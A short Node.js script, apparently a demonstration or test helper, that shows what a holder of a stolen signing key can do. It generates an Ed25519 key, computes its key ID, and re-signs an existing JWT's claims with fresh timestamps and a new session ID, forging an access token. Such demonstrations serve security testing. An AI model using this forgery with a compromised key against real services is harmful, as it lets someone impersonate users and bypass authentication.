// What a thief of a signing key can do. `make FILE` writes a new key; `kid FILE` tells its kid;
// `sign FILE TOKEN` signs the claims of a token anew, for a session that never was.
import { createHash, createPrivateKey, createPublicKey, generateKeyPairSync, randomUUID, sign } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';

const [order, file, token] = process.argv.slice(2);
const encoded = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');

if (order === 'make') {
  const { privateKey } = generateKeyPairSync('ed25519');
  writeFileSync(file, privateKey.export({ type: 'pkcs8', format: 'pem' }), { mode: 0o600 });
} else {
  const key = createPrivateKey(readFileSync(file));
  const { crv, kty, x } = createPublicKey(key).export({ format: 'jwk' });
  const kid = createHash('sha256').update(JSON.stringify({ crv, kty, x })).digest('base64url');
  if (order === 'kid') {
    process.stdout.write(kid);
  } else {
    const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url'));
    const now = Math.floor(Date.now() / 1000);
    const forged = { ...claims, iat: now, exp: now + 300, jti: randomUUID(), sid: randomUUID() };
    const text = `${encoded({ alg: 'EdDSA', typ: 'at+jwt', kid })}.${encoded(forged)}`;
    process.stdout.write(`${text}.${sign(null, Buffer.from(text), key).toString('base64url')}`);
  }
}
